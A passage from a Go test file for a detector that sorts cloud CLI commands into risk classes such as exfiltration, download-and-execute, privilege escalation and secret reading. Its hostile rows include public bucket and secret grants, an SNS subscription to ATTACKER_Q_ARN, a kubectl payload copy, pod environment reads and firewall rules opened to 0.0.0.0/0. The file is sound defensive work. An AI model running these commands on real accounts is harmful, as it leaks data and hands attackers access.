		{"gcloud sql instances patch db --authorized-networks=203.0.113.0/24", ""},
		{"gcloud sql instances describe db", ""},
		{"aws rds modify-db-instance --db-instance-identifier db --no-publicly-accessible", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCloudDataExposed: hosted data made readable by everyone or sent to
// another party is network-exfiltration (README's heldout10 call); the
// members from the gcloud storage, gsutil, AWS CLI s3/s3api/sns/rds, az
// storage/sql, pubsub and kubectl references.
func TestCloudDataExposed(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud storage objects update gs://B/O --add-acl-grant=entity=AllUsers,role=READER", NetworkExfiltration},
		{"gcloud storage buckets update gs://B --add-acl-grant=entity=AllUsers,role=READER", NetworkExfiltration},
		{"gcloud storage buckets add-iam-policy-binding gs://B --member=allUsers --role=roles/storage.objectViewer", NetworkExfiltration},
		{"gcloud storage buckets add-iam-policy-binding gs://B --member=allAuthenticatedUsers --role=roles/storage.objectViewer", NetworkExfiltration},
		{"gcloud storage buckets update gs://B --predefined-acl=publicRead", NetworkExfiltration},
		{"gsutil acl ch -u AllUsers:R gs://B/O", NetworkExfiltration},
		{"gsutil iam ch allUsers:objectViewer gs://B", NetworkExfiltration},
		{"gsutil acl set public-read gs://B/O", NetworkExfiltration},
		{"aws s3api put-bucket-acl --bucket b --acl public-read", NetworkExfiltration},
		{"aws s3api put-object-acl --bucket b --key k --grant-read uri=http://acs.amazonaws.com/groups/global/AllUsers", NetworkExfiltration},
		{"aws s3 cp report.csv s3://b/report.csv --acl public-read", NetworkExfiltration},
		{"az storage container create --name c --account-name a --public-access blob", NetworkExfiltration},
		{"gcloud pubsub subscriptions update --push-endpoint https://example.com/page demo", NetworkExfiltration},
		{"gcloud pubsub subscriptions create demo --topic t --push-endpoint=https://collector.example.net/push", NetworkExfiltration},
		{"aws sns subscribe --region us-east-1 --topic-arn TOPIC_ARN --protocol sqs --notification-endpoint ATTACKER_Q_ARN", NetworkExfiltration},
		{"aws rds start-export-task --export-task-identifier t --source-arn arn:aws:rds:r:a:snapshot:s --s3-bucket-name b --iam-role-arn arn:r --kms-key-id k", NetworkExfiltration},
		{"az sql db export --server s --resource-group rg --name appdb --storage-uri https://example.com/page --storage-key-type SharedAccessKey --storage-key 10 --admin-user alice --admin-password hunter2", NetworkExfiltration},
		{"kubectl cp /tmp/my demo/some-pod:/tmp/server", NetworkExfiltration},
		{"kubectl cp -n demo ./payload some-pod:/tmp/payload", NetworkExfiltration},
		// The same grant on the other data-holding resources (compute
		// images, snapshots and disks, secrets, topics: each group's
		// add-iam-policy-binding reference), and a disk or snapshot given
		// a download URL (az disk|snapshot grant-access, az reference).
		{"gcloud compute images add-iam-policy-binding img --member=allAuthenticatedUsers --role=roles/compute.imageUser", NetworkExfiltration},
		{"gcloud compute snapshots add-iam-policy-binding snap --member=allUsers --role=roles/compute.storageAdmin", NetworkExfiltration},
		{"gcloud secrets add-iam-policy-binding db-pass --member=allUsers --role=roles/secretmanager.secretAccessor", NetworkExfiltration},
		{"az snapshot grant-access --resource-group rg --name snap --duration-in-seconds 3600", NetworkExfiltration},
		{"az disk grant-access --resource-group rg --name osdisk --duration-in-seconds 3600 --access-level Read", NetworkExfiltration},
		{"az snapshot revoke-access --resource-group rg --name snap", ""},
		{"kubectl cp demo/some-pod:/tmp/server /tmp/my", ""},
		{"gcloud pubsub subscriptions create demo --topic demo --push-endpoint https://https://example.com/page", ""},
		{"gcloud pubsub subscriptions create demo --topic demo", ""},
		{"gcloud storage buckets update gs://B --add-acl-grant=entity=user-alice@example.com,role=READER", ""},
		{"gsutil acl get gs://B", ""},
		{"aws s3api get-bucket-acl --bucket b", ""},
		{"az storage container create --name c --account-name a --public-access off", ""},
		{"aws rds describe-export-tasks", ""},
		{`aws sns subscribe --topic-arn arn:aws:sns:$region:1:t --protocol email --notification-endpoint $email_address`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl cp /tmp/my demo/some-pod:/tmp/server", NetworkExfiltration, "cloudDataExposed", []string{"kubectl", "cp", "/tmp/my"})
}

// TestCloudRunsAndAccounts: SSM documents that fetch content and run it
// (AWS managed documents reference), accounts made in a hosted directory
// and runners created to act as a passed role (README's heldout10 calls).
func TestCloudRunsAndAccounts(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`aws ssm send-command --document-name "AWS-RunRemoteScript" --instance-id i-06ae --parameters '{"sourceType":["S3"],"sourceInfo":["{\"path\":\"s3://b/s.sh\"}"]}'`, DownloadExecute},
		{`aws ssm send-command --document-name AWS-InstallApplication --instance-id i-06ae --parameters '{"action":["Install"],"source":["https://x/f.msi"]}'`, DownloadExecute},
		{`aws ssm send-command --document-name AWS-RunAnsiblePlaybook --instance-ids i-0e --parameters '{"playbookurl":["https://x/p.yml"]}'`, DownloadExecute},
		{`aws ssm send-command --document-name AWS-ApplyChefRecipes --instance-ids i-0e --parameters '{"SourceType":["S3"],"SourceInfo":["{\"path\":\"s3://b/c\"}"]}'`, DownloadExecute},
		{`aws ssm send-command --instance-ids i-00 --document-name AWS-RunShellScript --parameters commands=ifconfig`, ""},
		{`aws ssm send-command --instance-ids i-00 --document-name AWS-RunRemoteScript`, ""},
		{"aws cognito-idp sign-up --client-id 719 --username admin --password BlahBlah123!", PrivilegeEscalation},
		{"aws cognito-idp admin-create-user --user-pool-id p --username u", PrivilegeEscalation},
		{"aws cognito-idp admin-add-user-to-group --user-pool-id p --username u --group-name admins", PrivilegeEscalation},
		{"aws workmail create-user --organization-id org --name marketing --display-name Marketing", PrivilegeEscalation},
		{"aws cognito-idp list-users --user-pool-id p", ""},
		{"aws workmail list-users --organization-id org", ""},
		{"aws lambda create-function --function-name f --runtime python3.9 --role arn:aws:iam::1:role/admin --handler h --zip-file fileb://f.zip", PrivilegeEscalation},
		{"aws bedrock-agentcore-control create-code-interpreter --name i --execution-role-arn arn:aws:iam::1:role/r --network-configuration networkMode=PUBLIC", PrivilegeEscalation},
		{"aws glue create-dev-endpoint --endpoint-name e --role-arn arn:aws:iam::1:role/r --public-key file://k.pub", PrivilegeEscalation},
		{"aws sagemaker create-notebook-instance --notebook-instance-name n --instance-type ml.t2.medium --role-arn arn:aws:iam::1:role/r", PrivilegeEscalation},
		{"aws codebuild create-project --name p --source type=NO_SOURCE --artifacts type=NO_ARTIFACTS --environment type=LINUX_CONTAINER --service-role arn:aws:iam::1:role/r", PrivilegeEscalation},
		{"aws lambda update-function-code --function-name f --zip-file fileb://f.zip", ""},
		{"aws lambda list-functions", ""},
		{"aws cloudformation create-stack --stack-name s --template-body file://t.yaml --role-arn arn:aws:iam::1:role/r", ""},
		{`aws lambda create-function --function-name f --runtime python3.11 --role $ATTACKER_LAMBDA_ROLE_ARN --handler h`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "aws cognito-idp sign-up --client-id 719 --username admin --password x", PrivilegeEscalation, "directoryAccountMade", []string{"aws", "cognito-idp", "sign-up"})
}

// TestCloudAccessAndKeys: a hosted service opened to every network is
// disk-system, a service's credentials or access rules changed are
// privilege-escalation, keys listed through az rest and another
// container's environment are secret-read (README's heldout10 calls;
// members from the az, gcloud storage, AWS CLI iam, cdk, kubectl and
// docker references).
func TestCloudAccessAndKeys(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"az cosmosdb update --name a --resource-group rg --public-network-access ENABLED", DiskSystem},
		{"az storage account update --name a --resource-group rg --public-network-access Enabled", DiskSystem},
		{"az keyvault update --name kv --resource-group rg --default-action Allow", DiskSystem},
		{"gcloud storage buckets update gs://demo --clear-ip-filter --project=P", DiskSystem},
		{"az cosmosdb update --name a --resource-group rg --public-network-access DISABLED", ""},
		{"az storage account update --name a --resource-group rg --default-action Deny", ""},
		{"az acr update --resource-group rg --name demo --admin-enabled true", PrivilegeEscalation},
		{"gcloud storage hmac update ACCESS_ID --deactivate", PrivilegeEscalation},
		{"gcloud storage hmac create sa@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"az storage queue policy update --name p --queue-name q --permissions raup --expiry 2030-01-01 --account-name a", PrivilegeEscalation},
		{"az storage container policy create --container-name c --name p --permissions r --account-name a", PrivilegeEscalation},
		{`aws iam tag-user --user-name admin --tags '{"Key":"developer","Value":"true"}' --profile manager`, PrivilegeEscalation},
		{"aws iam untag-role --role-name r --tag-keys team", PrivilegeEscalation},
		{`az rest --method POST --uri "https://management.azure.com/subscriptions/s/resourceGroups/rg/providers/Microsoft.Logic/workflows/demo/regenerateAccessKey?api-version=2019-05-01" --body '{"keyType": "Primary"}'`, PrivilegeEscalation},
		{"cdk bootstrap aws://10/region --trust 123456789012 --cloudformation-execution-policies arn:aws:iam::aws:policy/AdministratorAccess", PrivilegeEscalation},
		{"cdk bootstrap aws://123456789012/us-east-1", ""},
		{"cdk bootstrap aws://123456789012/us-east-1 --trust-for-lookup 210987654321", ""},
		{"az acr update --resource-group rg --name demo --admin-enabled false", ""},
		{"gcloud storage hmac list", ""},
		{"az storage queue policy list --queue-name q --account-name a", ""},
		{"aws iam list-user-tags --user-name admin", ""},
		{`az rest --method POST --uri "https://management.azure.com/subscriptions/s/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/a/listKeys?api-version=2023-01-01"`, SecretRead},
		{`az rest --method POST --uri "https://management.azure.com/subscriptions/s/resourceGroups/rg/providers/Microsoft.Web/sites/app/restart?api-version=2022-03-01"`, ""},
		{"kubectl exec redis-master-ft9ex env", SecretRead},
		{"kubectl exec -n prod web -- printenv", SecretRead},
		{"docker exec -it web env", SecretRead},
		{"kubectl exec web -- env FOO=1 sh", ""},
		{"kubectl exec web -- ls /app", ""},
		{"kubectl exec -it web -- /bin/bash", ""},
		{"docker exec web cat /etc/hostname", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, "kubectl exec redis-master-ft9ex env", SecretRead, "podEnvironmentRead", []string{"kubectl", "exec", "env"})
	explainRow(t, "cdk bootstrap aws://1/r --trust 123456789012", PrivilegeEscalation, "cdkTrust", []string{"cdk", "bootstrap", "--trust"})
	explainRow(t, "az vm extension set -g rg --vm-name vm --name CustomScript --settings '{\"fileUris\": [\"https://x/s.sh\"], \"commandToExecute\": \"./s.sh\"}'",
		DownloadExecute, "cloudRunsElsewhere", []string{"az", "vm", "extension", "set", "CustomScript", "fileUris"})
}

// TestRunnerRoleSwappedAndMemberships: an existing runner given another
// role or service account (lambda update-function-configuration --role,
// sagemaker update-notebook-instance --role-arn, codebuild update-project
// --service-role, kubectl set serviceaccount: each reference), a member
// added to a directory group (identitystore create-group-membership,
// gcloud identity groups memberships add) are privilege-escalation, as
// roleRunnerMade's and add-user-to-group's forms. A blob or JWT signed
// as a service account stays everyday (heldout7 s1203, s0292).
func TestRunnerRoleSwappedAndMemberships(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"aws lambda update-function-configuration --function-name f --role arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"aws sagemaker update-notebook-instance --notebook-instance-name n --role-arn arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"aws codebuild update-project --name p --service-role arn:aws:iam::1:role/admin", PrivilegeEscalation},
		{"kubectl set serviceaccount deployment web admin-sa", PrivilegeEscalation},
		{"aws identitystore create-group-membership --identity-store-id d --group-id g --member-id UserId=u", PrivilegeEscalation},
		{"gcloud identity groups memberships add --group-email admins@x.com --member-email evil@x.com", PrivilegeEscalation},
		{"aws lambda update-function-configuration --function-name f --timeout 30", ""},
		{"aws codebuild update-project --name p --description d", ""},
		{"gcloud identity groups memberships list --group-email admins@x.com", ""},
		{"aws identitystore list-group-memberships --identity-store-id d --group-id g", ""},
		{"kubectl set image deployment web web=nginx:1.27", ""},
		{"gcloud iam service-accounts sign-jwt claims.json out.jwt --iam-account sa@p.iam.gserviceaccount.com", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestPassedRoleRunner: new compute made to run as an identity the line
// passes is privilege-escalation, as roleRunnerMade's lambda
// create-function --role (README's heldout10 call: a new function, code
// interpreter or stack made to run as another, passed, role). Members from
// the references: gcloud functions deploy, run deploy, run jobs
// create|deploy, compute instances create with --service-account; aws ec2
// run-instances --iam-instance-profile; aws ecs run-task|start-task whose
// overrides set taskRoleArn. The same commands without a passed identity,
// a service's own role (heldout7 s0096: eks create-cluster --role-arn) and
// a task definition registered (README: a deploy) stay everyday.
func TestPassedRoleRunner(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{"gcloud functions deploy f --runtime python311 --trigger-http --service-account admin@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"gcloud run deploy svc --image gcr.io/p/i --service-account=admin@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"gcloud run jobs create job --image gcr.io/p/i --service-account admin@p.iam.gserviceaccount.com", PrivilegeEscalation},
		{"gcloud compute instances create vm --zone z --service-account admin@p.iam.gserviceaccount.com --scopes cloud-platform", PrivilegeEscalation},
		{"aws ec2 run-instances --image-id ami-1 --instance-type t3.micro --iam-instance-profile Name=admin", PrivilegeEscalation},
		{`aws ecs run-task --cluster c --task-definition td --overrides '{"taskRoleArn":"arn:aws:iam::1:role/admin"}'`, PrivilegeEscalation},
		{"gcloud run deploy svc --image gcr.io/p/i --region us-central1", ""},
		{"gcloud functions deploy f --runtime python311 --trigger-http", ""},
		{"aws ec2 run-instances --image-id ami-1 --instance-type t3.micro", ""},
		{"aws ecs run-task --cluster c --task-definition td", ""},
		{"aws ecs register-task-definition --family f --task-role-arn arn:aws:iam::1:role/admin --container-definitions file://c.json", ""},
		{"aws eks create-cluster --name production --role-arn arn:aws:iam::123:role/eks --resources-vpc-config subnetIds=subnet-1", ""},
		{"gcloud compute instances describe vm --zone z", ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestInfraCloudFirewallRules: a cloud's firewall rules (security groups,
// network ACLs, NSG rules, firewall-rules, WAF conditions) changed are
// disk-system, as the machine's own firewall is (README, heldout7's
// judgement calls: "cloud firewall rules (security groups, NSG rules, `vm
// open-port`, `firewall-rules create`, WAF sets) are disk-system";
// heldout7's s0141, s0446, s0850, s0863, s1021, s1023, s1189). The forms
// are the verbs the CLIs' references give for changing a rule: aws ec2
// authorize|revoke-security-group-ingress|egress, modify-security-group-rules,
// create|replace-network-acl-entry, modify-instance-attribute --groups;
// elbv2 set-security-groups, elb apply-security-groups-to-load-balancer;
// waf and waf-regional update-*, wafv2 update-ip-set|web-acl|rule-group,
// associate|disassociate-web-acl; lightsail open|put|close-instance-public-ports;
// az network nsg rule create|update, az vm open-port, az network firewall
// *-rule create, az sql|postgres|mysql server firewall-rule create|update;
// gcloud compute firewall-rules create|update, security-policies rules
// create|update. Reading them (describe, list, show, get) and a new empty
// security group (heldout7's s1105, everyday) change no rule.
func TestInfraCloudFirewallRules(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		// heldout7's labelled lines.
		{`aws ec2 authorize-security-group-ingress --group-id sg-123 --protocol tcp --port 443 --cidr 10.0.0.0/8`, DiskSystem},
		{`az network nsg rule create --resource-group production --nsg-name web --name allow-ssh --priority 100 --access Allow`, DiskSystem},
		{`gcloud compute firewall-rules create allow-ssh --network main --allow tcp:22`, DiskSystem},
		{`az vm open-port --resource-group production --name web --port 22`, DiskSystem},
		{`aws elbv2 set-security-groups --load-balancer-arn arn:aws:elasticloadbalancing:us-west-2:123456789012:loadbalancer/app/lb/50dc --security-groups sg-5943793c`, DiskSystem},
		{`aws waf update-ip-set --ip-set-id a123 --change-token 12cs --updates Action="INSERT",IPSetDescriptor={Type="IPV4",Value="12.34.56.78/16"}`, DiskSystem},
		{`aws waf update-byte-match-set --byte-match-set-id a123 --change-token 12cs --updates Action="DELETE",ByteMatchTuple={FieldToMatch={Type="HEADER",Data="referer"}}`, DiskSystem},
		// The same verbs from the CLIs' references (aws ec2, elb, waf,
		// wafv2, lightsail; az network nsg rule, az network firewall, az
		// sql server firewall-rule; gcloud compute firewall-rules,
		// security-policies rules).
		{`aws ec2 authorize-security-group-egress --group-id sg-1 --ip-permissions IpProtocol=-1,IpRanges=[{CidrIp=0.0.0.0/0}]`, DiskSystem},
		{`aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port 22 --cidr 10.0.0.0/8`, DiskSystem},
		{`aws ec2 revoke-security-group-egress --group-id sg-1 --ip-permissions IpProtocol=-1`, DiskSystem},
		{`aws ec2 modify-security-group-rules --group-id sg-1 --security-group-rules SecurityGroupRuleId=sgr-1,SecurityGroupRule={IpProtocol=tcp,FromPort=22,ToPort=22,CidrIpv4=0.0.0.0/0}`, DiskSystem},
		{`aws ec2 create-network-acl-entry --network-acl-id acl-1 --ingress --rule-number 100 --protocol -1 --cidr-block 0.0.0.0/0 --rule-action allow`, DiskSystem},
		{`aws ec2 replace-network-acl-entry --network-acl-id acl-1 --ingress --rule-number 100 --protocol -1 --cidr-block 0.0.0.0/0 --rule-action allow`, DiskSystem},
		{`aws ec2 modify-instance-attribute --instance-id i-1 --groups sg-1 sg-2`, DiskSystem},
		{`aws elb apply-security-groups-to-load-balancer --load-balancer-name lb --security-groups sg-1`, DiskSystem},
		{`aws waf-regional update-web-acl --web-acl-id a --change-token t --default-action Type=ALLOW`, DiskSystem},
		{`aws wafv2 update-ip-set --name ips --scope REGIONAL --id a --addresses 10.0.0.0/8 --lock-token t`, DiskSystem},
		{`aws wafv2 disassociate-web-acl --resource-arn arn:aws:elasticloadbalancing:us-east-1:1:loadbalancer/app/lb/1`, DiskSystem},
		{`aws lightsail open-instance-public-ports --instance-name web --port-info fromPort=22,toPort=22,protocol=TCP`, DiskSystem},
		{`aws lightsail put-instance-public-ports --instance-name web --port-infos fromPort=22,toPort=22,protocol=TCP`, DiskSystem},
		{`az network nsg rule update -g production --nsg-name web -n allow-ssh --access Allow`, DiskSystem},
		{`az network firewall network-rule create -g rg -f fw --collection-name c -n r --protocols TCP --source-addresses '*' --destination-addresses '*' --destination-ports 22`, DiskSystem},
		{`az sql server firewall-rule create -g rg -s srv -n all --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255`, DiskSystem},
		{`az postgres server firewall-rule update -g rg -s srv -n all --start-ip-address 0.0.0.0`, DiskSystem},
		{`gcloud compute firewall-rules update allow-ssh --source-ranges 0.0.0.0/0`, DiskSystem},
		{`gcloud compute security-policies rules create 1000 --security-policy edge --action allow --src-ip-ranges 0.0.0.0/0`, DiskSystem},
		// Everyday: reading the rules, and a new empty group (s1105, s0851).
		{`aws ec2 describe-security-groups --group-ids sg-1`, ""},
		{`aws ec2 describe-security-group-rules --security-group-rule-ids sgr-cdef01234567890ab`, ""},
		{`aws ec2 create-security-group --group-name api --description api`, ""},
		{`aws ec2 describe-network-acls`, ""},
		{`aws waf get-ip-set --ip-set-id a123`, ""},
		{`aws wafv2 list-ip-sets --scope REGIONAL`, ""},
		{`aws lightsail get-instance-port-states --instance-name web`, ""},
		{`az network nsg rule list -g production --nsg-name web`, ""},
		{`az network nsg rule show -g production --nsg-name web -n allow-ssh`, ""},
		{`az sql server firewall-rule list -g rg -s srv`, ""},
		{`gcloud compute firewall-rules list`, ""},
		{`gcloud compute firewall-rules describe allow-ssh`, ""},
		{`gcloud compute firewall-rules create --help`, ""},
		{`aws ec2 authorize-security-group-ingress help`, ""},
		{`az vm open-port --help`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
	explainRow(t, `az vm open-port --resource-group production --name web --port 22`, DiskSystem, "cloudFirewallRules", []string{"az", "vm", "open-port"})
	explainRow(t, `gcloud compute firewall-rules create allow-ssh --network main --allow tcp:22`, DiskSystem, "cloudFirewallRules", []string{"gcloud", "compute", "firewall-rules", "create"})
}

// TestPrecisionIAMNamesOnly: two IAM objects hold no permission. An
// account alias is a name for the account's sign-in URL (IAM User Guide,
// "Your AWS account ID and its alias"), and an instance profile is an
// empty container until add-role-to-instance-profile puts a role in it
// (heldout7's s0383 and s0756, labelled everyday). Users, keys, roles,
// policies and the role put into a profile stay privilege-escalation.
func TestPrecisionIAMNamesOnly(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`aws iam create-user --user-name bob`, PrivilegeEscalation},
		{`aws iam create-access-key --user-name bob`, PrivilegeEscalation},
		{`aws iam add-role-to-instance-profile --instance-profile-name web --role-name Admin`, PrivilegeEscalation},
		{`aws iam attach-role-policy --role-name web --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`, PrivilegeEscalation},
		{`aws iam create-role --role-name web --assume-role-policy-document file://trust.json`, PrivilegeEscalation},
		// Everyday: a name, or an empty profile.
		{`aws iam create-account-alias --account-alias unique-name`, ""},
		{`aws iam delete-account-alias --account-alias unique-name`, ""},
		{`aws iam list-account-aliases`, ""},
		{`aws iam create-instance-profile --instance-profile-name YourNewRole-Instance-Profile`, ""},
		{`aws iam get-instance-profile --instance-profile-name web`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}

// TestCloudImpersonation: the Google Cloud CLIs' impersonation options
// make every API request of the call (or of every later call) as another
// service account (README heldout13: "gsutil -i SA, gcloud config set
// auth/impersonate_service_account ... are privilege-escalation (dev8's
// acting as another identity)"). gsutil's top-level options ("gsutil
// [-D] [-h header]... [-i service_account] [-m] [-o section:flag=value]
// [-q] [-u project] command", cloud.google.com/storage/docs/gsutil/
// addlhelp/GlobalCommandLineOptions: "-i Allows you to use the
// configured credentials to impersonate a service account"); gcloud's
// global flag --impersonate-service-account ("all API requests will be
// made as the given service account", gcloud topic flags) and the
// property auth/impersonate_service_account set with gcloud config set
// (gcloud config set reference). heldout13's z1005 "gsutil -i
// storage@… ls" and z1190 "gcloud config set
// auth/impersonate_service_account storage@…". Unsetting the property,
// help, and gsutil's -i of a command (not the top level) stay everyday.
func TestCloudImpersonation(t *testing.T) {
	for _, tt := range []struct {
		cmd, want string
	}{
		{`gsutil -i storage@service-test-001-iam.gserviceaccount.com ls`, PrivilegeEscalation}, // z1005
		{`gsutil -m -i sa@p.iam.gserviceaccount.com cp -r gs://b/x .`, PrivilegeEscalation},
		{`gsutil -u billing-proj -i sa@p.iam.gserviceaccount.com ls gs://b`, PrivilegeEscalation},
		{`gcloud storage ls --impersonate-service-account=sa@p.iam.gserviceaccount.com`, PrivilegeEscalation},
		{`gcloud compute instances list --impersonate-service-account sa@p.iam.gserviceaccount.com`, PrivilegeEscalation},
		{`gcloud config set auth/impersonate_service_account storage@p.iam.gserviceaccount.com`, PrivilegeEscalation}, // z1190
		// Everyday: the property removed, help, no impersonation.
		{`gcloud config unset auth/impersonate_service_account`, ""},
		{`gcloud config set auth/impersonate_service_account --help`, ""},
		{`gsutil ls gs://bucket`, ""},
		{`gsutil -m cp -r gs://b/x .`, ""},
		{`gcloud storage ls`, ""},
	} {
		checkRow(t, tt.cmd, tt.want)
	}
}
